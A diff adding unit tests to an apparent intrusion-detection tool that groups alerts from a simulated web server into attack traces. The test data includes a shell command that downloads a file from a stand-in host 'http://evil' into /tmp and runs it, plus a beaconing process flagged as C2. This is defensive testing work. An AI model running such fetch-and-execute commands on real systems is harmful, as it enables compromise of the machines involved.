@@ -182,3 +182,96 @@ def test_trace_view_shows_alerts_and_connections_of_the_attack(tmp_path):
     assert "!! Download (high)" in tree and "connect 127.0.0.1:40000 -> 10.0.0.9:443" in tree
     assert "· wrote /tmp/x" in tree and "· executed /tmp/x  (written by curl[202])" in tree
     assert view.to_dict()["score"] == 40 and view.roles[srv.id] == "root"
+
+
+def _request(w: World, pid: int, from_port: int, *cmd: str):
+    """One inbound connection to the web server (pid 100) and the shell that handled it."""
+    w.accept(100, 8080, from_port)
+    sh = w.run(pid, 100, "/bin/sh", "-c", " ".join(cmd))
+    return sh
+
+
+def test_each_request_of_a_server_is_its_own_trace(tmp_path):
+    from spyderd.traces import build_trace
+
+    w, sink = World(tmp_path), FakeSink()
+    p = pipeline(w, sink)
+    w.web_server()
+    a = _request(w, 200, 50001, "id")
+    b = _request(w, 300, 50002, "id -u")  # the same command would fold into the first
+    fa = p.new(ev_of(a), a, FakeMatch(FakeRule("Shell")), now=0)
+    fb = p.new(ev_of(b), b, FakeMatch(FakeRule("Shell")), now=0)
+    assert fa.root_id == fb.root_id and fa.trace_id != fb.trace_id
+    p.send_due(10)
+    view = build_trace(w.store, fb.trace_id)
+    accepted = [n for n in view.nodes.values() if n.kind == "connection"]
+    assert [n.attrs["remote_port"] for n in accepted] == [50002]  # its own request only
+    assert a.id not in view.nodes
+
+
+def test_requests_sharing_a_dropped_file_are_one_trace(tmp_path):
+    from spyderd.traces import build_trace
+
+    w, sink = World(tmp_path), FakeSink()
+    p = pipeline(w, sink)
+    w.web_server()
+    _request(w, 200, 50001, "curl -o /tmp/x http://evil")
+    curl = w.run(201, 200, "/usr/bin/curl", "-o", "/tmp/x", "http://evil")
+    w.graph.apply(FileEvent(time=w.tick(), pid=201, op="create", path="/tmp/x", inode=7, dev=1))
+    f1 = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download")), now=0)
+    other = _request(w, 250, 50003, "true")  # an unrelated request in between
+    f_other = p.new(ev_of(other), other, FakeMatch(FakeRule("Shell", "low")), now=0)
+    b = _request(w, 300, 50002, "/tmp/x")
+    f2 = p.new(ev_of(b), b, FakeMatch(FakeRule("Shell")), now=0)  # before the link is known
+    assert f2.trace_id != f1.trace_id
+    old = f2.trace_id
+    payload = w.run(301, 300, "/tmp/x")
+    w.graph.apply(WroteExecEvent(time=w.tick(), pid=301, path="/tmp/x", inode=7, dev=1,
+                                 writer_pid=201, writer_start=curl.attrs["start_ns"],
+                                 write_time=w.t - 3 * 10**9))
+    f3 = p.new(ev_of(payload), payload, FakeMatch(FakeRule("Run from /tmp")), now=0)
+    assert f3.trace_id == f2.trace_id == f1.trace_id != f_other.trace_id
+    p.send_due(10)
+    assert {f["trace_id"] for f in sink.findings if f["id"] != f_other.id} == {f1.trace_id}
+    merged = w.store.trace(old)
+    assert merged["merged_into"] == f1.trace_id
+    tr = w.store.trace(f1.trace_id)
+    assert set(tr["findings"]) == {f1.id, f2.id, f3.id} and tr["score"] == 60
+    assert build_trace(w.store, old).id == f1.trace_id  # the old id shows the merged trace
+    assert {w.store.finding(x).trace_id for x in (f1.id, f2.id, f3.id)} == {f1.trace_id}
+    assert [t["id"] for t in sink.traces] == [f1.trace_id]  # one entry for the attack
+
+
+def test_requests_calling_the_same_address_are_one_trace(tmp_path):
+    w, sink = World(tmp_path), FakeSink()
+    p = pipeline(w, sink)
+    w.web_server()
+    a = _request(w, 200, 50001, "beacon")
+    beacon = w.run(201, 200, "/tmp/beacon")
+    w.connect(201, 7777, local_port=41000)
+    f1 = p.new(ev_of(beacon), beacon, FakeMatch(FakeRule("C2")), now=0)
+    b = _request(w, 300, 50002, "beacon again")
+    again = w.run(301, 300, "/usr/bin/python3", "-c", "connect again")
+    w.connect(301, 7777, local_port=41001)
+    f2 = p.new(ev_of(again), again, FakeMatch(FakeRule("Python")), now=0)
+    assert f1.trace_id == f2.trace_id
+    c = _request(w, 400, 50003, "other")
+    elsewhere = w.run(401, 400, "/usr/bin/python3", "-c", "connect")
+    w.connect(401, 443, local_port=41002)
+    f3 = p.new(ev_of(elsewhere), elsewhere, FakeMatch(FakeRule("Python")), now=0)
+    assert f3.trace_id != f1.trace_id
+    del a, b, c
+
+
+def test_idle_gap_splits_a_trace(tmp_path):
+    w, sink = World(tmp_path), FakeSink()
+    tracker = TraceTracker(threshold=40, settle=2.0, idle=5.0, sinks=(sink.name,),
+                           lookup=w.store.trace)
+    p = Findings(w.graph, w.store, [sink], tracker, Folder(0), load_suppressions([]))
+    srv = w.web_server()
+    f1 = p.new(ev_of(srv), srv, FakeMatch(FakeRule("Server does X")), now=0)
+    for _ in range(6):
+        w.tick()
+    srv2 = w.exec(100, "/usr/sbin/nginx", "-s", "reload")
+    f2 = p.new(ev_of(srv2), srv2, FakeMatch(FakeRule("Server does Y")), now=0)
+    assert f1.root_id == f2.root_id and f1.trace_id != f2.trace_id
